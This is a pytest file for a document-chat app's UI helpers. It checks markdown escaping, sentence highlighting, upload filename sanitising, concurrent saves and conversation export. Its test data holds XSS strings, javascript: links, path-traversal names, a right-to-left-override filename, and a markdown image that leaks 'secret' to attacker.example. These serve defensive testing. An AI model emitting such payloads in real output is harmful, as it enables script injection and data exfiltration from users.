"""The UI's pure helpers: escaping, highlighting, upload names, progress, export (no Streamlit needed)."""

from __future__ import annotations

import html
import io
import threading
from dataclasses import dataclass, field
from pathlib import Path

import markdown_it
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pypdf import PdfReader

import ui.library
import ui.uploads
from ingest.chunking import unwrap_lines
from ingest.pipeline import FileResult
from rag.answer import NO_ROOM_EN
from rag.config import PACKAGED_LLM
from rag.model_catalog import GgufModel
from rag.quotes import Quote
from rag.store import DocRecord
from tests.fixtures_docs import pdf_bytes
from ui import serve
from ui.conversation import (
    answer_kind,
    assistant_message,
    closing_stream,
    conversation_markdown,
    generated_label,
    model_history,
    quotes_for,
    user_message,
)
from ui.jobs import FileTask
from ui.library import document_label, document_rows, is_inside, machine_lines, new_collection_error
from ui.models import PACKAGED_LABEL, ActiveModel, ModelChoice, fit_warning, model_choices
from ui.text import (
    escape_markdown,
    highlight_supporting,
    highlighted_markdown,
    model_label,
    quote_markdown,
    where,
)
from ui.uploads import (
    page_file_name,
    result_message,
    safe_upload_path,
    sanitize_filename,
    save_upload,
    single_page_pdf,
    split_upload,
    upload_size_error,
)


def render(markdown: str) -> str:
    """CommonMark plus the GFM parts Streamlit also renders (tables, strikethrough). markdown-it-py is a pinned test
    dependency: imported, not skipped, so these security tests can never turn into silent skips."""
    md = markdown_it.MarkdownIt("commonmark", {"linkify": False}).enable(["table", "strikethrough"])
    return md.render(markdown)


def literal(text: str) -> str:
    """What the renderer gives for ``text`` shown exactly as written: one paragraph of HTML-escaped characters."""
    return f"<p>{html.escape(text).replace('&#x27;', chr(39))}</p>\n"


# ------------------------------------------------------------------------------------------------ escaping
HOSTILE = [
    "<script>alert(1)</script>",
    "**bold** and __also__ and *em* and ~~gone~~",
    "[x](javascript:alert(1))",
    "![img](http://evil.example/x.png)",
    "<img src=x onerror=alert(1)>",
    "# heading",
    "> quote",
    "- item",
    "1. item",
    "`code` and ```fence```",
    "| a | b |",
    "$x^2$ and $$y$$",
    ":red[coloured] :material/home: :orange-background[hi]",
    "&lt;script&gt; &amp;",
    "<https://evil.example>",
    "a\\*b\\",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_escaped_text_renders_literally(text: str) -> None:
    rendered = render(escape_markdown(text))
    assert rendered == literal(text)
    for tag in ("<a", "<img", "<script", "<strong", "<em", "<code", "<h1", "<blockquote", "<li", "<table", "<del"):
        assert tag not in rendered


def test_escaping_keeps_unicode_and_plain_words() -> None:
    assert escape_markdown("用户指南 café") == "用户指南 café"
    assert escape_markdown("a.b") == "a\\.b"


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Zs", "Zl", "Zp")), min_size=1))
def test_any_line_of_text_renders_exactly(text: str) -> None:
    assert render(escape_markdown(text)) == literal(text)


# ------------------------------------------------------------------------------------------------ highlighting
CHUNK = (
    "Citations\nThe citation badge colour is teal: each answer's sources are shown under it with the file name "
    "and page number. Uploads are limited to 50 MB. The library lists every document."
)


def test_highlight_marks_the_supporting_sentence_only() -> None:
    parts = highlight_supporting(CHUNK, "The citation badge is teal [1].")
    assert "".join(s for s, _ in parts) == CHUNK  # nothing lost
    marked = [s for s, ok in parts if ok]
    assert len(marked) == 1 and "teal" in marked[0]


def test_citation_numbers_and_contractions_do_not_count() -> None:
    parts = highlight_supporting("Version 1 is old. It's 2 days.", "It's in [1] and [2].")
    assert not any(ok for _, ok in parts)


def test_highlight_chinese() -> None:
    chunk = "引用标记的颜色是青色。上传文件不能超过五十兆。"
    parts = highlight_supporting(chunk, "引用标记是青色的[1]。")
    assert [ok for _, ok in parts] == [True, False]


def test_nothing_highlighted_for_empty_answer_or_chunk() -> None:
    assert not any(ok for _, ok in highlight_supporting(CHUNK, ""))
    assert highlight_supporting("", "teal") == []


def test_quoted_sentences_are_highlighted_even_when_the_answer_says_nothing() -> None:
    quote = "The citation badge colour is teal: each answer's sources are shown under it with the file name and page "
    quote += "number."
    parts = highlight_supporting(CHUNK, "", [quote])
    assert [s for s, ok in parts if ok] == [
        "Citations\nThe citation badge colour is teal: each answer's sources are shown under it with the file name "
        "and page number."
    ]
    assert not any(ok for _, ok in highlight_supporting(CHUNK, "", ["Nothing like this is in the chunk."]))


def test_a_truncated_quote_still_finds_its_sentence() -> None:
    parts = highlight_supporting(CHUNK, "", ["The citation badge colour is teal: each answer's sources…"])
    assert [ok for _, ok in parts] == [True, False, False]


def test_quote_markdown_is_an_escaped_block_quote() -> None:
    out = quote_markdown("Badge  **teal**\n![x](http://h/)")
    assert out == "> Badge \\*\\*teal\\*\\* \\!\\[x\\]\\(http\\:\\/\\/h\\/\\)".replace("\\/", "/")
    rendered = render(out)
    assert rendered.startswith("<blockquote>") and "<img" not in rendered and "<strong" not in rendered


@pytest.mark.parametrize(
    ("name", "label"),
    [
        ("SmolLM2-135M-Instruct.Q4_1.gguf", "SmolLM2-135M-Instruct"),
        ("qwen2.5-1.5b-instruct-q4_k_m.gguf", "qwen2.5-1.5b-instruct"),
        ("Llama-3.2-3B-Instruct-IQ3_XS.gguf", "Llama-3.2-3B-Instruct"),
        ("echo", "echo"),
        ("local", "local"),
    ],
)
def test_model_label(name: str, label: str) -> None:
    assert model_label(name) == label


def test_highlighted_markdown_is_escaped_and_wrapped_per_line() -> None:
    parts = [("Intro <b>x</b>. ", False), ("Badge **teal**\nsecond line. ", True), ("[a](javascript:x)", False)]
    out = highlighted_markdown(parts)
    assert ":orange-background[Badge \\*\\*teal\\*\\*]" in out
    assert ":orange-background[second line\\.]" in out
    assert "\\[a\\]\\(javascript\\:x\\)" in out
    assert "<b>" not in out and "\\<b\\>" in out
    assert "<a" not in render(out)


def test_highlighted_markdown_keeps_paragraphs_and_drops_indentation() -> None:
    out = highlighted_markdown([("one\n        indented code?\n\n\n two", False)])
    assert out == "one  \nindented code?\n\ntwo"
    assert "<code" not in render(out)


WRAPPED = "The citation badge colour is teal: each answer's sources are shown under it with the file name"


def test_unwrap_joins_lines_the_pdf_layout_wrapped() -> None:
    text = f"Citations\n{WRAPPED}\nand page number.\nNext line."
    assert unwrap_lines(text) == f"Citations\n{WRAPPED} and page number.\nNext line."


def test_unwrap_keeps_author_breaks() -> None:
    for text in (
        f"{WRAPPED}.\nNew sentence.",  # ended by punctuation
        f"{WRAPPED}\n- a list item",
        f"{WRAPPED}\n2. numbered",
        f"{WRAPPED}\n\nnew paragraph",
        "Short line\nAnother short line",  # a new line that starts a new sentence
        "def f(x)\n    return x",  # code keeps its lines
        "    x = 1\n    y = 2",
    ):
        assert unwrap_lines(text) == text


def test_unwrap_joins_a_hard_wrapped_sentence() -> None:
    """Text and Markdown files wrapped by an editor: a line that goes on in lower case continues the sentence."""
    text = "The first article about Python was\nwritten in 1991 and is now outdated.\nNext one."
    assert unwrap_lines(text) == "The first article about Python was written in 1991 and is now outdated.\nNext one."


def test_unwrap_joins_a_line_that_closes_the_bracket_the_line_before_opened() -> None:
    text = "It expresses a float in hexadecimal (base\n16), giving the exact value.\n(Next)\n16"
    assert unwrap_lines(text) == "It expresses a float in hexadecimal (base 16), giving the exact value.\n(Next)\n16"
    assert unwrap_lines("x = f(a,\n      b)") == "x = f(a,\n      b)"  # code keeps its lines


def test_unwrap_joins_a_phrase_a_blank_line_cut_from_its_sentence() -> None:
    """Web pages turned to text set a bold name apart from the rest of its sentence."""
    text = "Constellations\n\nMother Hen (Kvachka) [Quatʃka]\n\nis the best-known constellation."
    assert unwrap_lines(text) == "Constellations\n\nMother Hen (Kvachka) [Quatʃka] is the best-known constellation."
    for kept in (
        "## Install\n\npip install it",  # a Markdown heading
        "3.2 Prompt(提示词)\n\nprompt(提示词)是我们和 LLM 互动最常用的方式",  # a Chinese heading, then an English word
        "It ends here:\n\nlower case after a colon",
        f"{WRAPPED}\n\nnew paragraph",  # a full line: the paragraph ended
    ):
        assert unwrap_lines(kept) == kept


def test_unwrap_joins_chinese_without_a_space() -> None:
    line = "引用标记的颜色是青色，每个答案的来源都显示在答案下方，包括文件名和页码"  # 35 wide characters = 70 columns
    assert unwrap_lines(f"{line}\n方便核对。\n下一行") == f"{line}方便核对。\n下一行"


def test_where() -> None:
    assert where("a.pdf", 3) == "a.pdf, page 3"
    assert where("a.md", None) == "a.md"


# ------------------------------------------------------------------------------------------------ upload names
@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../../x.pdf", "x.pdf"),
        ("/etc/passwd", "passwd"),
        ("C:\\Users\\me\\report.docx", "report.docx"),
        ("..", "upload"),
        ("", "upload"),
        ("   ", "upload"),
        (".hidden.pdf", "hidden.pdf"),
        ("...pdf", "pdf"),
        ("用户指南.pdf", "用户指南.pdf"),
        ("a\x00b\nc\x1b.txt", "abc.txt"),
        ("evil\u202efdp.exe.pdf", "evilfdp.exe.pdf"),  # right-to-left override dropped
        ('a<b>:c"d|e?f*.md', "a_b__c_d_e_f_.md"),
        ("CON.txt", "_CON.txt"),
        ("notes.", "notes"),
        ("ｆｕｌｌ.md", "ｆｕｌｌ.md"),
    ],
)
def test_sanitize_filename(name: str, expected: str) -> None:
    assert sanitize_filename(name) == expected


def test_sanitize_filename_limits_bytes_and_keeps_extension() -> None:
    name = sanitize_filename("长" * 300 + ".pdf")
    assert name.endswith(".pdf") and len(name.encode()) <= 200
    name.encode().decode()  # no split character


@pytest.mark.parametrize(
    "name", ["../../x.pdf", "/tmp/x.pdf", "..", "", "a/../../b.txt", "..\\..\\c.md", "用户指南.pdf"]
)
def test_safe_upload_path_stays_inside(tmp_path: Path, name: str) -> None:
    upload_dir = tmp_path / "uploads"
    upload_dir.mkdir()
    path = safe_upload_path(upload_dir, name)
    assert path.parent == upload_dir.resolve()
    assert not path.name.startswith(".")


def test_save_upload_collisions(tmp_path: Path) -> None:
    first = save_upload(tmp_path, "guide.pdf", b"one")
    assert first == tmp_path.resolve() / "guide.pdf"
    assert save_upload(tmp_path, "guide.pdf", b"one") == first  # same content: reused
    second = save_upload(tmp_path, "guide.pdf", b"two")
    assert second.name == "guide-2.pdf" and second.read_bytes() == b"two"
    assert first.read_bytes() == b"one"
    assert save_upload(tmp_path, "guide.pdf", b"two") == second
    assert save_upload(tmp_path, "guide.pdf", b"three").name == "guide-3.pdf"
    assert save_upload(tmp_path, "README", b"x").name == "README"
    assert save_upload(tmp_path, "README", b"y").name == "README-2"
    assert not list(tmp_path.glob(".part-*"))


def test_safe_upload_path_never_follows_a_link(tmp_path: Path) -> None:
    outside = tmp_path / "outside.txt"
    outside.write_text("secret")
    uploads = tmp_path / "uploads"
    uploads.mkdir()
    (uploads / "a.txt").symlink_to(outside)
    path = save_upload(uploads, "a.txt", b"new")
    assert path.name == "a-2.txt" and outside.read_text() == "secret"


def test_save_upload_streams_a_file_object(tmp_path: Path) -> None:
    class NoWholeRead(io.BytesIO):
        def getvalue(self) -> bytes:
            raise AssertionError("read whole")

    data = bytes(range(256)) * 20_000  # 5 MB: several copy blocks
    path = save_upload(tmp_path, "blob.pdf", NoWholeRead(data))
    assert path.read_bytes() == data
    assert not list(tmp_path.glob(".part-*"))


def test_a_name_taken_while_saving_is_never_overwritten(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Two sessions upload different files named guide.pdf at the same moment: the other one claims the name between
    our check and our write. A check-then-replace would overwrite it; the claim must move on to guide-2.pdf."""
    original = ui.uploads._write_temp

    def other_session_wins(folder: Path, content):
        tmp = original(folder, content)
        (folder / "guide.pdf").write_bytes(b"the other session's file")
        return tmp

    monkeypatch.setattr(ui.uploads, "_write_temp", other_session_wins)
    path = save_upload(tmp_path, "guide.pdf", b"ours")
    assert path.name == "guide-2.pdf" and path.read_bytes() == b"ours"
    assert (tmp_path / "guide.pdf").read_bytes() == b"the other session's file"


def test_simultaneous_uploads_of_one_name_keep_every_file(tmp_path: Path) -> None:
    contents = [f"upload {i} ".encode() * 50_000 for i in range(8)]
    start = threading.Barrier(len(contents))
    saved: dict[int, Path] = {}

    def session(i: int) -> None:
        start.wait()
        saved[i] = save_upload(tmp_path, "report.pdf", contents[i])

    threads = [threading.Thread(target=session, args=(i,)) for i in range(len(contents))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)
    assert len({p.name for p in saved.values()}) == len(contents)
    assert all(saved[i].read_bytes() == contents[i] for i in saved)
    assert not list(tmp_path.glob(".part-*"))


def test_split_upload_caps_the_number_of_files(monkeypatch: pytest.MonkeyPatch) -> None:
    assert split_upload([1, 2]) == ([1, 2], None)
    monkeypatch.setattr(ui.uploads, "MAX_FILES_PER_UPLOAD", 2)
    taken, message = split_upload([1, 2, 3, 4, 5])
    assert taken == [1, 2] and message is not None and "5 files" in message and "other 3" in message


def test_upload_size_error() -> None:
    assert upload_size_error("a.pdf", 50 * 1024 * 1024, 50) is None
    message = upload_size_error("a.pdf", 60 * 1024 * 1024, 50)
    assert message is not None and "a.pdf" in message and "60.0 MB" in message and "RAG_MAX_UPLOAD_MB" in message


# ------------------------------------------------------------------------------------------------ ingest feedback
@pytest.mark.parametrize(
    ("result", "level", "words"),
    [
        (FileResult("/d/a.pdf", "ingested", 12), "success", "a\\.pdf: ingested, 12 chunks"),
        (FileResult("/d/a.pdf", "replaced", 3), "success", "re-ingested"),
        (FileResult("/d/a.pdf", "skipped", 3, "unchanged"), "info", "already ingested, skipped"),
        (
            FileResult("/d/b.pdf", "skipped", 0, "same content as a.pdf, already ingested"),
            "info",
            "already ingested, skipped",
        ),
        (FileResult("/d/a.xyz", "skipped", 0, "unsupported file type '.xyz'"), "warning", "unsupported"),
        (FileResult("/d/a.pdf", "failed", 0, "encrypted PDF"), "error", "a\\.pdf: encrypted PDF"),
        (FileResult("/d/a.pdf", "removed", 4), "success", "removed"),
        (FileResult("/d/a.pdf", "cancelled", 0, "cancelled"), "warning", "a\\.pdf: cancelled, nothing of it"),
        (
            FileResult("/d/a.pdf", "failed", 0, "encrypted PDF; a password is needed", needs_password=True),
            "warning",
            "a\\.pdf: encrypted PDF; a password is needed (type it below",
        ),
    ],
)
def test_result_message(result: FileResult, level: str, words: str) -> None:
    got_level, text = result_message(result)
    assert got_level == level and words in text


def test_result_message_of_a_requested_reingest() -> None:
    result = FileResult("/d/a.pdf", "replaced", 3)
    assert result_message(result, forced=True) == ("success", "a\\.pdf: re-ingested, 3 chunks")
    assert "changed since last time" in result_message(result)[1]


def test_result_message_escapes_names() -> None:
    _, text = result_message(FileResult("/d/[x](javascript:y).txt", "ingested", 1))
    assert "<a" not in render(text)


@pytest.mark.parametrize(
    ("task", "line", "fraction"),
    [
        (FileTask("/u/a.pdf", "a.pdf"), "a.pdf: queued", None),
        (FileTask("/u/a.pdf", "a.pdf", "waiting", waiting_for="another process (pid 7)"),
         "a.pdf: waiting for another process (pid 7) to finish writing", None),
        (FileTask("/u/a.pdf", "a.pdf", "reading", page=3, n_pages=12, ocr=True),
         "a.pdf: reading page 3 of 12 (OCR)", 0.25),
        (FileTask("/u/a.pdf", "a.pdf", "reading", page=1, n_pages=4), "a.pdf: reading page 1 of 4", 0.25),
        (FileTask("/u/a.txt", "a.txt", "reading"), "a.txt: reading…", None),
        (FileTask("/u/a.pdf", "a.pdf", "embedding", chunks=1280), "a.pdf: embedding, 1,280 chunks so far", 1.0),
    ],
)  # fmt: skip
def test_file_task_status(task: FileTask, line: str, fraction: float | None) -> None:
    assert task.status_line() == line and task.fraction == fraction


def test_single_page_pdf(tmp_path: Path) -> None:
    source = tmp_path / "three.pdf"
    source.write_bytes(pdf_bytes(["first page", "second page", "third page"]))
    reader = PdfReader(io.BytesIO(single_page_pdf(source, 3)))
    assert len(reader.pages) == 1 and "third page" in reader.pages[0].extract_text()
    assert page_file_name("user-guide.pdf", 3) == "user-guide-page-3.pdf"


# ------------------------------------------------------------------------------------------------ library and machine
def _record(doc_id: str, source: str, n_pages: int = 0) -> DocRecord:
    return DocRecord(doc_id, source, Path(source).name, "h" + doc_id, 5, n_pages, 1_700_000_000.0)


def test_document_rows_and_labels() -> None:
    records = {"1": _record("1", "/a/b.md"), "2": _record("2", "/a/A.pdf", 4), "3": _record("3", "/c/b.md")}
    rows = document_rows(records)
    assert [r["document"] for r in rows] == ["A.pdf", "b.md", "b.md"]
    assert rows[0]["pages"] == 4 and rows[1]["pages"] is None and rows[0]["chunks"] == 5
    assert document_label(records["2"], records) == "A.pdf"
    assert document_label(records["1"], records) == "b.md (/a/b.md)"


def test_new_collection_error_bounds_creation_only(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ui.library, "MAX_COLLECTIONS", 2)
    assert new_collection_error("new", ["a"]) is None
    message = new_collection_error("new", ["a", "b"])
    assert message is not None and "RAG_COLLECTION=new python -m ingest" in message
    assert new_collection_error("b", ["a", "b"]) is None  # switching to an existing one is always fine


def test_is_inside(tmp_path: Path) -> None:
    assert is_inside(tmp_path / "uploads" / "a.pdf", tmp_path / "uploads")
    assert not is_inside(tmp_path / "a.pdf", tmp_path / "uploads")
    assert not is_inside(tmp_path / "uploads" / ".." / "a.pdf", tmp_path / "uploads")


def test_machine_lines_are_honest_about_the_gpu() -> None:
    cpu = {"backend": "llama.cpp (in process)", "model": "m.gguf", "n_ctx": 2048, "gpu_backend": False, "gpu_layers": 0}
    lines = machine_lines(cpu, "all-MiniLM-L6-v2", 12)
    assert any("CPU only" in line for line in lines) and any("all-MiniLM-L6-v2" in line for line in lines)
    assert any("2048" in line for line in lines) and any("12" in line for line in lines)
    assert any("unused" in line for line in machine_lines(cpu | {"gpu_backend": True}, "e"))
    assert any("all layers" in line for line in machine_lines(cpu | {"gpu_backend": True, "gpu_layers": -1}, "e"))
    assert not any("--reembed" in line for line in machine_lines(cpu, "e", 12))
    assert any("--reembed" in line for line in machine_lines(cpu, "e", 12, by_language=False))  # before partitions
    remote = machine_lines({"backend": "OpenAI-compatible server at http://x", "model": "local", "n_ctx": 8192}, "e")
    assert not any("GPU" in line for line in remote)


# ------------------------------------------------------------------------------------------------ conversation
@dataclass
class _Hit:
    file_name: str
    source: str
    page: int | None
    text: str
    score: float
    relevance: float = 0.5
    chunk_id: str = "c1"


@dataclass
class _Answer:
    text: str
    abstained: bool
    sources: list[_Hit]
    quotes: list[Quote] = field(default_factory=list)
    generated: bool = True


BADGE = "The badge is teal."
LEAK = "![x](http://attacker.example/?q=secret)"
MODEL_FILE = "SmolLM2-135M-Instruct.Q4_1.gguf"


def _history() -> list[dict]:
    text = f"{BADGE}\n<script>x</script> [l](javascript:y)"
    hit = _Hit("user-guide.pdf", "/d/user-guide.pdf", 3, text, 0.9)
    quote = Quote(BADGE, "/d/user-guide.pdf", "user-guide.pdf", 3, "c1")
    return [
        user_message("What colour is the **badge**?"),
        assistant_message(_Answer(f"It is **teal** [1]. {LEAK}", False, [hit], [quote]), MODEL_FILE),
        user_message("And the moon?"),
        assistant_message(_Answer("The documents do not contain an answer to this question.", True, [], [], False)),
    ]


def test_assistant_message_is_plain_data() -> None:
    message = _history()[1]
    assert message["sources"][0] == {
        "file_name": "user-guide.pdf",
        "source": "/d/user-guide.pdf",
        "page": 3,
        "chunk_id": "c1",
        "text": "The badge is teal.\n<script>x</script> [l](javascript:y)",
        "score": 0.9,
        "relevance": 0.5,
    }
    assert message["quotes"] == [
        {"text": BADGE, "source": "/d/user-guide.pdf", "file_name": "user-guide.pdf", "page": 3, "chunk_id": "c1"}
    ]
    assert message["kind"] == "generated" and message["model"] == "SmolLM2-135M-Instruct"
    assert generated_label(message) == "Generated answer (SmolLM2-135M-Instruct)"
    assert quotes_for(message, message["sources"][0]) == [BADGE]
    assert quotes_for(message, {**message["sources"][0], "chunk_id": "other"}) == []
    assert model_history(_history()) == [{"role": m["role"], "content": m["content"]} for m in _history()]


@pytest.mark.parametrize(
    ("answer", "kind"),
    [
        (_Answer("x", False, [], generated=True), "generated"),
        (_Answer("", False, [], generated=False), "quotes"),
        (_Answer("The documents do not contain an answer to this question.", True, [], generated=False), "abstained"),
        (_Answer(NO_ROOM_EN, True, [], [Quote("q", "s", "f", 1, "c")], generated=False), "no_room"),
    ],
)
def test_answer_kind(answer: _Answer, kind: str) -> None:
    assert answer_kind(answer) == kind


def test_conversation_markdown_keeps_quotes_and_escapes_everything_it_did_not_write() -> None:
    out = conversation_markdown(_history())
    assert out.startswith("# DocChat conversation\n")
    assert "## Question 1\n\nWhat colour is the \\*\\*badge\\*\\*?" in out and "## Question 2" in out
    quoted = out.index("> The badge is teal\\.")
    generated = out.index("#### Generated answer \\(SmolLM2\\-135M\\-Instruct\\)")
    assert quoted < out.index("user\\-guide\\.pdf, page 3") < generated  # the quote and its place come first
    assert escape_markdown(LEAK) in out and LEAK not in out
    assert "\\[1\\] user\\-guide\\.pdf, page 3" in out
    assert "relevant enough" in out
    rendered = render(out)
    for tag in ("<script", 'href="javascript', "<img", "<strong", 'href="http'):
        assert tag not in rendered
    assert "It is **teal** [1]. ![x](http://attacker.example/?q=secret)" in rendered  # shown as the model wrote it
    assert conversation_markdown([]) == "# DocChat conversation\n"


class _LockedModel:
    """Like LlamaCppChat: the lock is held while the generator is open."""

    def __init__(self) -> None:
        self.lock = threading.Lock()

    def stream(self):
        with self.lock:
            yield from ["a", "b", "c"]


def test_closing_stream_releases_the_model_lock_when_abandoned() -> None:
    from rag.answer import AnswerStream

    model = _LockedModel()
    answer = AnswerStream("q", "q", [], False, model.stream())
    pieces = closing_stream(answer)
    assert next(pieces) == "a"
    assert model.lock.locked()
    pieces.close()
    assert not model.lock.locked()
    assert answer.text == "a"


# ------------------------------------------------------------------------------------------------ model switch
def _gguf(path: str, source: str = "models-dir", kind: str = "chat", size: int = 10**9) -> GgufModel:
    return GgufModel(Path(path), Path(path).name, source, size, "llama", 10**9, "Q4_K_M", 4096, True, kind, 1000)


def test_model_choices(tmp_path: Path) -> None:
    packaged = tmp_path / "pkg" / "smol.gguf"
    models = [
        _gguf(str(packaged), "packaged"),
        _gguf("/m/qwen.gguf"),
        _gguf("/m/embed.gguf", kind="embedding"),
        _gguf("/m/llama.gguf"),
    ]
    choices = model_choices(models, PACKAGED_LLM, packaged)
    assert [c.setting for c in choices] == [PACKAGED_LLM, "/m/qwen.gguf", "/m/llama.gguf"]
    assert choices[0].label == PACKAGED_LABEL and choices[0].model is models[0]
    assert choices[1].label == "qwen.gguf (1.0B, Q4_K_M, 1.0 GB)"  # the catalog's own label
    # A model named by RAG_LLM_MODEL stays selectable, listed or not.
    assert [c.label for c in model_choices(models, "/m/llama.gguf", packaged)][2].endswith("(RAG_LLM_MODEL)")
    custom = model_choices(models, "/elsewhere/mine.gguf", packaged)
    assert custom[1] == ModelChoice("/elsewhere/mine.gguf", "/elsewhere/mine.gguf (RAG_LLM_MODEL)")


def test_fit_warning_only_when_it_will_not_fit() -> None:
    model = _gguf("/m/qwen.gguf")
    assert fit_warning(ModelChoice("x", "x", model), 4096, lambda m, n: (True, "fine")) is None
    assert fit_warning(ModelChoice("x", "x", model), 4096, lambda m, n: (False, f"{m.name} will not fit")) == (
        "qwen.gguf will not fit"
    )
    assert fit_warning(ModelChoice("x", "x", None), 4096, lambda m, n: (False, "never asked")) is None


def test_active_model_is_shared_and_switchable() -> None:
    active = ActiveModel(PACKAGED_LLM)
    assert active.setting == PACKAGED_LLM and not active.switch(PACKAGED_LLM)
    assert active.switch("/m/qwen.gguf") and active.setting == "/m/qwen.gguf" and active.configured == PACKAGED_LLM


# ------------------------------------------------------------------------------------------------ launcher
def test_launcher_passes_the_upload_limit_and_binds_locally() -> None:
    args = serve.streamlit_args(37, 8600, ["--server.headless", "true"])
    assert args[:2] == ["run", str(serve.APP)]
    options = dict(zip(args[2::2], args[3::2], strict=True))
    assert options == {
        "--server.address": "127.0.0.1",
        "--server.port": "8600",
        "--server.maxUploadSize": "37",
        "--browser.gatherUsageStats": "false",
        "--server.headless": "true",
    }


def test_launcher_reads_the_settings_and_runs_streamlit(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, rag_env: None
) -> None:
    from streamlit.web import cli

    monkeypatch.chdir(tmp_path)
    (tmp_path / ".env").write_text("RAG_MAX_UPLOAD_MB=12\n")  # .env counts, like everywhere else
    calls: list[list[str]] = []
    monkeypatch.setattr(cli, "main", lambda args, **kwargs: calls.append(args))
    assert serve.main(["--port", "8777", "--", "--server.headless", "true"]) == 0
    options = dict(zip(calls[0][2::2], calls[0][3::2], strict=True))
    assert options["--server.maxUploadSize"] == "12" and options["--server.port"] == "8777"
    assert options["--server.headless"] == "true"


def test_launcher_refuses_a_bad_setting(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, rag_env: None, capsys: pytest.CaptureFixture
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("RAG_MAX_UPLOAD_MB", "0")
    assert serve.main([]) == 2
    assert "RAG_MAX_UPLOAD_MB" in capsys.readouterr().err


def test_upload_limit_warning() -> None:
    assert serve.upload_limit_warning(50, 50) is None
    message = serve.upload_limit_warning(200, 50)
    assert message is not None and "200 MB" in message and "RAG_MAX_UPLOAD_MB is 50 MB" in message


@dataclass
class _Refusal:
    question: str
    closest: object
    text: str = "文档中没有找到这个问题的答案。"
    abstained: bool = True
    sources: list = field(default_factory=list)
    quotes: list = field(default_factory=list)
    generated: bool = False


def test_a_refusal_keeps_the_closest_passage_in_the_chat_and_the_export() -> None:
    from rag.answer import NearMiss

    near = NearMiss("用户指南*.pdf", 2, 0.31, 0.43)
    message = assistant_message(_Refusal("红烧肉怎么做？", near))
    assert message["kind"] == "abstained" and message["closest"] == near.describe(chinese=True)
    assert message["closest"].startswith("最接近的段落：用户指南*.pdf，第 2 页（依据 0.31，回答需要 0.43）")
    out = conversation_markdown([user_message("红烧肉怎么做？"), message])
    assert "_最接近的段落：用户指南\\*\\.pdf，第 2 页" in out  # escaped like every text we did not write
    assert assistant_message(_Refusal("What?", None))["closest"] is None
